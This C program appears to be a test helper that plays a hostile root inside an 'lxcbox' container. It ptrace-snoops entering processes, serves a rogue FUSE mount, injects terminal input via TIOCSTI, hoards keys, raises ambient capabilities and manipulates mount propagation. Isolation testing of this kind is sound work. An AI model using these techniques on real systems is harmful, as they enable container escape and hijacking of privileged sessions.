/* attack WHAT... - what a hostile root does inside a container, in a program of its own since no shell can
 *
 *   snoop SECONDS      looks into every process that appears, before it is what it is going to be; prints what it saw of another world
 *   fuse DIR [NUMBER]  covers DIR with a file system that answers every ioctl with NUMBER, or that without never answers at all
 *   push               pushes input into the terminals that it can reach
 *   secret COMMAND...  runs COMMAND with a key in its session keyring
 *   find NAME          looks for a key of that name
 *   hoard              makes keys until its quota of them is full
 *   inherit COMMAND... runs COMMAND with groups, inheritable and ambient capabilities that nobody inside should have
 *   mounts             does to the mount table whatever may propagate
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/fuse.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* ---- snoop */

static dev_t own_device;
static ino_t own_root;

static void see(int pid, const char *what, const char *path)
{
	printf("%s of %d: %s\n", what, pid, path);
	fflush(stdout);
}

static void look_at_descriptors(int pid)
{
	for (int fd = 0; fd < 32; fd++) {
		char path[64], target[512];
		struct stat s;

		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		ssize_t n = readlink(path, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = 0;
		if (n > 0 && stat(path, &s) == 0 && S_ISDIR(s.st_mode))
			see(pid, "directory", target);
	}
}

static void look_at(int pid)
{
	char path[64], target[512];
	struct stat s;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t n = readlink(path, target, sizeof target - 1);
	target[n < 0 ? 0 : n] = 0;
	if (strstr(target, "lxcbox"))
		see(pid, "program", target);
	snprintf(path, sizeof path, "/proc/%d/root/", pid);
	if (stat(path, &s) == 0 && (s.st_dev != own_device || s.st_ino != own_root))
		see(pid, "root", path);
	look_at_descriptors(pid);
	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, target, sizeof target - 1);
	if (fd >= 0)
		close(fd);
	target[n < 0 ? 0 : n] = 0;
	if (n > 0 && memmem(target, (size_t)n, "LXCBOX", 6))
		see(pid, "environment", target);
}

/* Stopped before its exec it would still be the program that entered. */
static void seize(int pid)
{
	char path[64], target[512];
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t n = readlink(path, target, sizeof target - 1);
	target[n < 0 ? 0 : n] = 0;
	if (strstr(target, "lxcbox"))
		see(pid, "control", target);
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
		(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static int snoop(int seconds)
{
	time_t end = time(NULL) + seconds;
	int last = getpid();
	struct stat s;

	if (stat("/", &s) < 0)
		return 1;
	own_device = s.st_dev;
	own_root = s.st_ino;
	while (time(NULL) < end) {
		/* those that come get the next numbers */
		for (int pid = last + 1; pid < last + 8; pid++) {
			if (kill(pid, 0) < 0 && errno == ESRCH)
				continue;
			for (int i = 0; i < 20; i++)
				look_at(pid);
			seize(pid);
			last = pid;
		}
	}
	return 0;
}

/* ---- fuse */

static void answer(int fd, uint64_t unique, int error, const void *data, size_t n)
{
	static char reply[4096];
	struct fuse_out_header h = { .len = (uint32_t)(sizeof h + n), .error = error, .unique = unique };

	memcpy(reply, &h, sizeof h);
	memcpy(reply + sizeof h, data, n);
	(void)!write(fd, reply, sizeof h + n);
}

static struct fuse_attr attr_of(uint64_t node)
{
	return (struct fuse_attr){ .ino = node, .mode = node == 1 ? S_IFDIR | 0755 : S_IFREG | 0777, .nlink = 1, .size = 4096 };
}

static void serve(int fd, const struct fuse_in_header *in, int number)
{
	switch (in->opcode) {
	case FUSE_INIT: {
		struct fuse_init_out o = { .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 4096 };
		answer(fd, in->unique, 0, &o, sizeof o);
		return;
	}
	case FUSE_LOOKUP: {
		struct fuse_entry_out o = { .nodeid = 2, .attr = attr_of(2) };
		answer(fd, in->unique, 0, &o, sizeof o);
		return;
	}
	case FUSE_GETATTR: {
		struct fuse_attr_out o = { .attr = attr_of(in->nodeid) };
		answer(fd, in->unique, 0, &o, sizeof o);
		return;
	}
	case FUSE_OPEN: {
		struct fuse_open_out o = { .fh = 1 };
		answer(fd, in->unique, 0, &o, sizeof o);
		return;
	}
	case FUSE_STATFS: {
		struct fuse_statfs_out o = { .st = { .bsize = 4096 } };
		answer(fd, in->unique, 0, &o, sizeof o);
		return;
	}
	case FUSE_IOCTL: {
		const struct fuse_ioctl_in *want = (const struct fuse_ioctl_in *)(in + 1);
		/* unlocking works, and the other end is said to be this descriptor */
		struct fuse_ioctl_out o = { .result = want->in_size ? 0 : number };
		answer(fd, in->unique, 0, &o, sizeof o);
		return;
	}
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
		return;
	default:
		answer(fd, in->unique, -ENOSYS, "", 0);
	}
}

static int fuse(const char *dir, const char *number)
{
	_Alignas(8) static char request[1 << 20];
	char options[80];
	int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);

	snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fd);
	if (fd < 0 || mount("evil", dir, "fuse", MS_NOSUID | MS_NODEV, options) < 0) {
		perror("attack: fuse");
		return 1;
	}
	puts("mounted");
	fflush(stdout);
	for (;;) {
		ssize_t n = read(fd, request, sizeof request);
		const struct fuse_in_header *in = (const struct fuse_in_header *)request;

		if (n < 0 && errno == ENODEV)
			return 0;
		if (n >= (ssize_t)sizeof *in && (number || in->opcode == FUSE_INIT))
			serve(fd, in, number ? atoi(number) : 0);
	}
}

/* ---- push */

static int push(void)
{
	static const unsigned long code[] = { 0x5412, 0x541c, 0x5412 | 1ul << 32 };
	int fd[] = { 0, 1, 2, open("/dev/tty", O_RDWR), open("/dev/console", O_RDWR | O_NOCTTY) };
	int pushed = 0;

	for (size_t i = 0; i < sizeof fd / sizeof *fd; i++) {
		for (size_t j = 0; fd[i] >= 0 && j < sizeof code / sizeof *code; j++) {
			char text[] = "\3x";

			if (syscall(SYS_ioctl, fd[i], code[j], text) == 0 || errno != EPERM) {
				printf("descriptor %d, code %lx: %s\n", fd[i], code[j], strerror(errno));
				pushed = 1;
			}
		}
	}
	return pushed;
}

/* ---- keys */

#define SESSION -3
#define USER	-4

static int secret(char **argv)
{
	(void)syscall(SYS_keyctl, 1, NULL);
	if (syscall(SYS_add_key, "user", "lxcbox-secret", "x", 1, SESSION) < 0 ||
	    syscall(SYS_add_key, "user", "lxcbox-user-secret", "x", 1, USER) < 0) {
		perror("attack: add_key");
		return 2;
	}
	execvp(argv[0], argv);
	return 127;
}

static int find(const char *name)
{
	long a = syscall(SYS_keyctl, 10, SESSION, "user", name, 0), b = syscall(SYS_keyctl, 10, USER, "user", name, 0);
	long c = syscall(SYS_request_key, "user", name, NULL, 0);

	printf("%s\n", a > 0 || b > 0 || c > 0 ? "found" : "nothing");
	return 0;
}

static int hoard(void)
{
	char name[32];
	int n = 0;

	/* those of processes that have ended are counted for a moment longer */
	for (int i = 0; i < 20; i++) {
		while (n < 1000) {
			snprintf(name, sizeof name, "%d", n);
			if (syscall(SYS_add_key, "user", name, "x", 1, USER) < 0)
				break;
			n++;
		}
		usleep(50000);
	}
	printf("%s\n", errno == EDQUOT ? "full" : strerror(errno));
	return 0;
}

/* ---- inherit */

static int inherit(char **argv)
{
	struct __user_cap_header_struct head = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct caps[2];
	const gid_t groups[] = { 1234, 4321 };

	if (setgroups(2, groups) < 0 || syscall(SYS_capget, &head, caps) < 0)
		return 2;
	for (int i = 0; i < 2; i++)
		caps[i].inheritable = caps[i].permitted;
	if (syscall(SYS_capset, &head, caps) < 0)
		return 2;
	for (int cap = 0; cap < 64; cap++)
		(void)prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, cap, 0, 0);
	execvp(argv[0], argv);
	return 127;
}

/* ---- mounts */

static int mounts(void)
{
	static const unsigned long kind[] = { MS_SHARED, MS_SLAVE, MS_PRIVATE, MS_UNBINDABLE, MS_SHARED };

	mkdir("/tmp/storm", 0755);
	for (size_t i = 0; i < sizeof kind / sizeof *kind; i++) {
		(void)mount("none", "/tmp/storm", "tmpfs", 0, NULL);
		(void)mount(NULL, "/", NULL, kind[i] | MS_REC, NULL);
		mkdir("/tmp/storm/a", 0755);
		(void)mount("/", "/tmp/storm/a", NULL, MS_BIND | MS_REC, NULL);
		(void)umount2("/dev/console", MNT_DETACH);
		(void)umount2("/dev/null", MNT_DETACH);
		(void)mount("/proc", "/sys", NULL, MS_BIND | MS_REC, NULL);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (argc == 3 && !strcmp(what, "snoop"))
		return snoop(atoi(argv[2]));
	if (argc >= 3 && !strcmp(what, "fuse"))
		return fuse(argv[2], argv[3]);
	if (!strcmp(what, "push"))
		return push();
	if (argc > 2 && !strcmp(what, "secret"))
		return secret(argv + 2);
	if (argc > 2 && !strcmp(what, "inherit"))
		return inherit(argv + 2);
	if (argc == 3 && !strcmp(what, "find"))
		return find(argv[2]);
	if (!strcmp(what, "hoard"))
		return hoard();
	if (!strcmp(what, "mounts"))
		return mounts();
	fprintf(stderr, "usage: attack snoop SECONDS | fuse DIR [NUMBER] | push | secret COMMAND... | find NAME | hoard | inherit COMMAND... | mounts\n");
	return 2;
}
